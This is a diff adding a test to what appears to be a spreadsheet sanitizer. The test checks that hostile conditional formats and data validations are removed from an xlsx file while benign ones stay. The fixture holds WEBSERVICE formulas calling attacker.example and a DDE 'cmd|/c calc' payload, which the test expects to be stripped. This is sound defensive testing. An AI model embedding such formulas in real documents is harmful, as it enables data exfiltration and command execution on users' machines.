@@ -263,6 +263,51 @@ describe('OOXML rebuild', () => {
     expect(text.match(/<f>SUM\(A2:A3\)<\/f>/g)).toHaveLength(spellings.length);
   });
 
+  it('removes conditional formats and validations whose formulas call out, keeping the rest', async () => {
+    const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
+    const X14 = 'http://schemas.microsoft.com/office/spreadsheetml/2009/9/main';
+    const XM = 'http://schemas.microsoft.com/office/excel/2006/main';
+    const sheet =
+      `<worksheet xmlns="${S}" xmlns:x14="${X14}" xmlns:xm="${XM}"><sheetData><row r="1"><c r="A1"><v>7</v></c></row></sheetData>` +
+      '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>_xlfn.WEBSERVICE("http://attacker.example/cf")</formula></cfRule></conditionalFormatting>' +
+      '<conditionalFormatting sqref="B1"><cfRule type="expression" priority="2"><formula>A1&gt;5</formula></cfRule></conditionalFormatting>' +
+      '<dataValidations count="2"><dataValidation type="list" sqref="C1"><formula1>cmd|\'/c calc\'!A0</formula1></dataValidation>' +
+      '<dataValidation type="whole" sqref="D1"><formula1>1</formula1><formula2>10</formula2></dataValidation></dataValidations>' +
+      '<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}"><x14:dataValidations count="1"><x14:dataValidation type="list">' +
+      '<x14:formula1><xm:f>_xlfn.WEBSERVICE("http://attacker.example/x14")</xm:f></x14:formula1><xm:sqref>E1</xm:sqref>' +
+      '</x14:dataValidation></x14:dataValidations></ext></extLst></worksheet>';
+    const input = await buildOpcPackage(
+      [
+        {
+          name: 'xl/workbook.xml',
+          contentType: OOXML_MAIN_TYPES.xlsx,
+          data: `<workbook xmlns="${S}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>`,
+          relationships: [
+            { id: 'rId1', type: RELATIONSHIP_TYPES.worksheet, target: 'worksheets/sheet1.xml' },
+          ],
+        },
+        {
+          name: 'xl/worksheets/sheet1.xml',
+          contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml',
+          data: sheet,
+        },
+      ],
+      [{ id: 'rId1', type: RELATIONSHIP_TYPES.officeDocument, target: 'xl/workbook.xml' }],
+    );
+    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.xlsx' }));
+    expect(findingsOf(outcome)).toEqual({ 'external-relationship': 2, 'dde-link': 1 });
+    const { text } = await unzipped(outcome.bytes);
+    expect(text).not.toMatch(/attacker|cmd\||x14:dataValidation|extLst/);
+    expect(text).toContain(
+      '<conditionalFormatting sqref="B1"><cfRule type="expression" priority="2"><formula>A1&gt;5</formula></cfRule></conditionalFormatting>',
+    );
+    expect(text).toContain(
+      '<dataValidation type="whole" sqref="D1"><formula1>1</formula1><formula2>10</formula2></dataValidation>',
+    );
+    expect(text).not.toContain('sqref="A1"');
+    expect(text).not.toContain('sqref="C1"');
+  });
+
   describe('sheet positions after a macro sheet goes', () => {
     const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
     const R_NS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
